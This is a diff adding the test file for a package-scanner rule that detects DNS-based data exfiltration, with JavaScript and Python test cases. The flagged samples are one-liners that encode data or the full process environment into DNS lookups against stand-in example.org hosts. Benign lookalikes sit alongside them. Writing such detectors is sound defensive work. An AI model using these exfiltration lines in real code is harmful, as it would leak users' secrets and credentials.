@@ -1,0 +1,37 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { findingsOf } from '#test/support/scan-package.js';
+import { rule } from './dns-leak.rule.js';
+
+const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';
+
+test("bad: what it looks for", () => {
+  for (const code of [
+    "require(\"dns\").lookup(`${data}.x.example.org`, cb)",
+    "const { resolve4 } = require(\"node:dns/promises\"); resolve4(part + \".example.org\")",
+    "import dns from \"dns\"; dns.promises.resolveTxt(JSON.stringify(process.env))",
+  ]) assert.equal(worst(code), 'high', code);
+});
+
+test("bad: the same in Python", () => {
+  for (const code of [
+    "import socket\nsocket.gethostbyname(f\"{data}.example.org\")",
+    "import socket, os\nsocket.getaddrinfo(str(os.environ), 1)",
+  ]) assert.equal(worst(code, 'a.py'), 'high', code);
+});
+
+test("good: what only looks like it", () => {
+  for (const code of [
+    "require(\"dns\").lookup(\"example.org\", cb)",
+    "require(\"dns\").lookup(host, cb)",
+    "const dns = { lookup() {} }; dns.lookup(`${x}.example.org`)",
+    "cache.lookup(`${x}.example.org`)",
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test("good: the same in Python", () => {
+  for (const code of [
+    "import socket\nsocket.gethostbyname(\"example.org\")",
+    "socket2.gethostbyname(f\"{x}.example.org\")",
+  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
+});
